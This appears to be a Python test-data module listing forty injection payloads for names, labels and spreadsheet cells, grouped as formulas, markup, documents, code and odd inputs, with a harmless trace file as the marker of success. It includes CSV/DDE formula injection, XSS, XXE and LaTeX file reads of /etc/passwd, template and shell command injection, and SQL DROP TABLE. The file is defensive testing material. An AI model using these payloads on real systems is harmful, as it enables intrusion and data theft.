"""Forty texts that somebody could put into a name, a label or a cell to make a reader's machine do something."""

from __future__ import annotations

# What a payload would leave behind if it ran: a file of this name in the current folder.
TRACE = "payload_ran.txt"
LEAVE = f"open('{TRACE}','w')"

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/x","klikk")',
    '=WEBSERVICE("http://example.org/"&A1)',
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "<iframe src=http://example.org></iframe>",
    "<style>@import url(http://example.org/a.css)</style>",
    "<a href=javascript:alert(1)>x</a>",
    "</td></table><form action=http://example.org><input name=q>",
)
DOCUMENTS = (
    "[x](javascript:alert(1)) ![y](http://example.org/y.png)",
    "`<b>x</b>`{=html} `\\fbox{x}`{=latex}",
    "$\\frac{1}{0}$ \\input{/etc/passwd}",
    "\\write18{touch " + TRACE + "} \\immediate",
    '#read("/etc/passwd") #import "x.typ": *',
    "#{panic()} @kilde <merke> *b* _k_",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "]]> <![CDATA[x]]> <?php echo 1 ?>",
)
CODE = (
    "{0.__class__.__init__.__globals__}",
    "{__import__('os')} {cause} {group}",
    "%s%s%n %(x)s",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    f"__import__('builtins').{LEAVE}",
    f"x'); {LEAVE}; ('",
    f'""";{LEAVE};"""',
    f"$(touch {TRACE}) `touch {TRACE}` ; touch {TRACE}",
)
ODD = (
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\cmd.exe",
    "'; DROP TABLE uttrekk; --",
    "_skjult etikett",
    "\u202egpj.exe\u202c omvendt",
    "null\x00byte bell\x07 \x1b]0;tittel\x07 \x1b[31mrød",
    "\u200b\u200d\ufeff usynlig \ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "lang" * 250,
)
PAYLOADS = (*FORMULAS, *MARKUP, *DOCUMENTS, *CODE, *ODD)
GROUPS = {"formulas": FORMULAS, "markup": MARKUP, "documents": DOCUMENTS, "code": CODE, "odd": ODD}
